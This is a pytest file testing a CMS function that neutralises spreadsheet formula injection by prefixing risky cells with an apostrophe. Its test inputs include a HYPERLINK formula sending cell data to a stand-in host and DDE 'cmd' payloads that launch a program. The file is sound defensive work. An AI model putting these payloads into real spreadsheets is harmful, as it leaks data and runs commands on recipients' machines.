"""safe_cell: text that a spreadsheet would run as a formula is neutralised; numbers stay numbers."""

from datetime import date
from decimal import Decimal

import pytest

from cms.spreadsheets import safe_cell, safe_row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1, "Bấm vào đây")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
    ],
)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Nguyễn Văn A", "", "a=b", " =1", "+84912345678", "-5", "-1.5", "+3,5", "0912"])
def test_ordinary_text_and_plain_numbers_in_text_are_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-5, -1.5, Decimal("-2.25"), 0, None, True, date(2026, 1, 1)])
def test_values_that_are_not_text_stay_what_they_are(value):
    assert safe_cell(value) is value


def test_safe_row():
    assert safe_row(["=1+1", -3, "ok"]) == ["'=1+1", -3, "ok"]
